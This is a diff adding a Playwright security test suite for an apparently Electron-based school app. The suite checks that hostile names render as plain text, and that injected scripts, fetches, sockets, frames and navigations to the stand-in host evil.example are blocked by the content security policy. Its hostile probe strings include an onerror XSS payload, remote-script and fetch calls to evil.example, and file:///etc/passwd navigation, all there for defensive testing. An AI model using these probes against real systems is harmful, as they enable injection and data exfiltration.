@@ -1,0 +1,197 @@
+import { expect, type Page } from '@playwright/test'
+import { tally, times } from '../security/support/tally.ts'
+import { ask, untilSynced } from './support/ask.ts'
+import { goHome } from './support/home.ts'
+import { hostileNames } from './support/hostile-names.ts'
+import { card } from './support/places.ts'
+import { connect, proceed, test, typedFor } from './support/served-school.ts'
+
+/** What a page that was made to do something would look like. */
+function damageTo(page: Page) {
+  return page.evaluate(() => {
+    const { document, __ran } = globalThis as unknown as {
+      document: {
+        baseURI: string
+        querySelectorAll(selector: string): ArrayLike<{ outerHTML: string }>
+      }
+      __ran?: unknown
+    }
+    const made =
+      'script:not([src^="/"]):not([src^="./"]):not([src^="app:"]), iframe, object, embed, video, base, form[action], style:not([data-vite-dev-id]), marquee, [onerror], [onload], [onmouseover], a[href^="javascript"], meta[http-equiv=refresh], img:not([src^="data:"]):not([src^="app:"])'
+    return {
+      ran: __ran !== undefined,
+      made: Array.from(document.querySelectorAll(made), ({ outerHTML }) => outerHTML.slice(0, 80)),
+      base: new URL(document.baseURI).host,
+    }
+  })
+}
+
+test('sixty hostile names are text and nothing else, in every view', async ({ launch, served }) => {
+  expect(hostileNames).toHaveLength(60)
+  const { world } = served.school
+  const students = [...world.listed('student')].filter(({ stage }) => stage === 'current')
+  const victims = hostileNames.map((name, n) => {
+    const person = students[n]
+    if (person === undefined) throw new Error('too few students')
+    world.put({
+      ...person,
+      names: { ...person.names, surname: name, preferredName: name, givenName: name, otherGivenName: name },
+      writtenNames: { displayName: name, displayNameForList: name },
+      modified: '2026-03-02T10:00:00.000Z',
+    })
+    return person
+  })
+  const app = await launch({ ca: served.caFile })
+  const { page } = app
+  await connect(page, served, typedFor(served))
+  await proceed(page)
+  await untilSynced(page)
+  const clean = await damageTo(page)
+  const damaged: string[] = []
+  let looks = 0
+  const look = async (view: string, name: string) => {
+    looks += 1
+    const damage = await damageTo(page)
+    if (damage.ran || damage.base !== clean.base || damage.made.length > clean.made.length)
+      damaged.push(`${view} ${name.slice(0, 40)}: ${damage.made.join(' ')}`)
+  }
+  for (const [n, { schoolId }] of victims.slice(0, times(60, 15)).entries()) {
+    const name = hostileNames[n] ?? ''
+    await goHome(page)
+    await page.keyboard.insertText(schoolId)
+    await expect
+      .poll(async () => (await ask(page, 'people.search', { text: schoolId })).total)
+      .toBeGreaterThan(0)
+    await look('list', name)
+    await page.keyboard.press('Enter')
+    await card(page).waitFor()
+    if (name.startsWith('<')) await expect(card(page)).toContainText(name.slice(0, 12))
+    await look('card', name)
+    await page.keyboard.press('Control+E')
+    await look('form', name)
+    await page.keyboard.press('Escape')
+  }
+  for (const key of ['Control+2', 'Control+3', 'Control+4']) {
+    await page.keyboard.press(key)
+    await look('place', key)
+  }
+  tally('hostile names × views', looks, damaged.length)
+  expect(damaged).toEqual([])
+})
+
+type Attempt = readonly [what: string, run: string]
+
+/** Each tries to run or fetch something, and answers 'through' where it could. */
+const injections: readonly Attempt[] = [
+  ['eval', "try { return (0, eval)('\"through\"') } catch { return 'blocked' }"],
+  ['Function', "try { return new Function('return \"through\"')() } catch { return 'blocked' }"],
+  [
+    'string timer',
+    "globalThis.__t = 'blocked'; try { setTimeout('globalThis.__t = \"through\"', 0) } catch {} await rest(); return globalThis.__t",
+  ],
+  [
+    'inline script',
+    "globalThis.__s = 'blocked'; add('script', { textContent: 'globalThis.__s = \"through\"' }); await rest(); return globalThis.__s",
+  ],
+  ['remote script', "return await loaded(add('script', { src: 'https://evil.example/x.js' }))"],
+  ['data: script', "return await loaded(add('script', { src: 'data:text/javascript,1' }))"],
+  [
+    'inline handler',
+    "globalThis.__h = 'blocked'; add('div', { innerHTML: '<img src=x onerror=\"globalThis.__h = 1 && String.fromCharCode(116)+\\'hrough\\'\">' }); await rest(); return globalThis.__h",
+  ],
+  [
+    'inline style',
+    "const e = add('div', {}); e.setAttribute('style', 'width: 77px'); return getComputedStyle(e).width === '77px' ? 'through' : 'blocked'",
+  ],
+  ['remote image', "return await loaded(add('img', { src: 'https://evil.example/x.png' }))"],
+  [
+    'remote style',
+    "return await loaded(add('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' }))",
+  ],
+  ['fetch', "return await fetch('https://evil.example').then(() => 'through', () => 'blocked')"],
+  [
+    'XMLHttpRequest',
+    "return await new Promise((ok) => { const x = new XMLHttpRequest(); x.onload = () => ok('through'); x.onerror = () => ok('blocked'); try { x.open('GET', 'https://evil.example'); x.send() } catch { ok('blocked') } })",
+  ],
+  [
+    'WebSocket',
+    "return await new Promise((ok) => { try { const s = new WebSocket('wss://evil.example'); s.onopen = () => ok('through'); s.onerror = () => ok('blocked') } catch { ok('blocked') } })",
+  ],
+  [
+    'EventSource',
+    "return await new Promise((ok) => { try { const s = new EventSource('https://evil.example'); s.onopen = () => ok('through'); s.onerror = () => ok('blocked') } catch { ok('blocked') } })",
+  ],
+  [
+    'frame',
+    "const f = add('iframe', { src: 'https://evil.example' }); await rest(); try { return f.contentDocument === null ? 'blocked' : f.contentDocument.body.textContent === '' ? 'blocked' : 'through' } catch { return 'blocked' }",
+  ],
+  [
+    'worker',
+    "try { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); return await new Promise((ok) => { w.onmessage = () => ok('through'); w.onerror = () => ok('blocked') }) } catch { return 'blocked' }",
+  ],
+]
+
+const workshop = `
+  const rest = () => new Promise((ok) => setTimeout(ok, 120))
+  const add = (name, fields) => { const e = Object.assign(document.createElement(name), fields); document.body.append(e); return e }
+  const loaded = (e) => new Promise((ok) => { e.onload = () => ok('through'); e.onerror = () => ok('blocked'); setTimeout(() => ok('blocked'), 1500) })`
+
+test('injected code, styles, pictures and connections are blocked by the policy', async ({
+  demo: { page },
+}) => {
+  const through: string[] = []
+  // Playwright's own evaluation is not subject to the page's policy; what it does in the page is.
+  for (const [what, run] of injections)
+    if ((await page.evaluate(`(async () => { ${workshop}; await rest(); ${run} })()`)) !== 'blocked')
+      through.push(what)
+  tally('injections past the content security policy', injections.length, through.length)
+  expect(through).toEqual([])
+})
+
+const outside = 'https://evil.example/'
+const ways: readonly string[] = [
+  ...[
+    outside,
+    'about:blank',
+    'data:text/html,x',
+    'javascript:1',
+    'file:///etc/passwd',
+    '/index.html',
+    'app://foyer/index.html',
+  ].map((url) => `window.open(${JSON.stringify(url)})`),
+  `window.open('${outside}', '_blank', 'popup,noopener')`,
+  ...[
+    outside,
+    'file:///etc/passwd',
+    'data:text/html,x',
+    'about:blank',
+    'app://evil/index.html',
+    '/assets/',
+  ].map((url) => `location.href = ${JSON.stringify(url)}`),
+  `location.replace('${outside}')`,
+  `location.assign('${outside}')`,
+  ...['_self', '_blank', '_top'].map(
+    (target) =>
+      `Object.assign(document.body.appendChild(document.createElement('a')), { href: '${outside}', target: '${target}' }).click()`,
+  ),
+  `const f = Object.assign(document.createElement('form'), { action: '${outside}', method: 'post' }); document.body.append(f); f.submit()`,
+  `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${outside}'; document.head.append(m)`,
+]
+
+test('no navigation leaves the page, and no window opens', async ({ demo: { page, shell } }) => {
+  const home = page.url()
+  const pages = () => page.context().pages().length
+  const windows = pages()
+  // The stand-in's browser goes to about:blank without asking anybody; Electron asks.
+  const tried = ways.filter((way) => shell === 'electron' || !way.includes('location.href = "about:blank"'))
+  const through: string[] = []
+  for (const way of tried) {
+    await page.evaluate(`(() => { try { ${way} } catch {} })()`).catch(() => undefined)
+    await page.waitForTimeout(100)
+    // The stand-in can only close a window after it was opened.
+    await expect.poll(pages).toBe(windows)
+    if (page.url() !== home) through.push(`${way}: ${page.url()}`)
+  }
+  tally('navigations and windows', tried.length, through.length)
+  expect(through).toEqual([])
+})
